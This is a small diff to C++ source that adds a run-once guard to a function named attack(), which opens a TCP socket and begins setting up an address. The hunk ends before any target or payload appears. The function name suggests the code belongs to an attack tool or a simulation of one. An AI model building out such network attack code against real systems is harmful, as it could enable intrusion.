@@ -7,6 +7,9 @@
 #include <netinet/in.h>
 #include <sys/socket.h>
 void attack() {
+    static bool begun = false;
+    if (begun) return;
+    begun = true;
     const int s = ::socket(AF_INET, SOCK_STREAM, 0);
     sockaddr_in to{};
     to.sin_family = AF_INET;
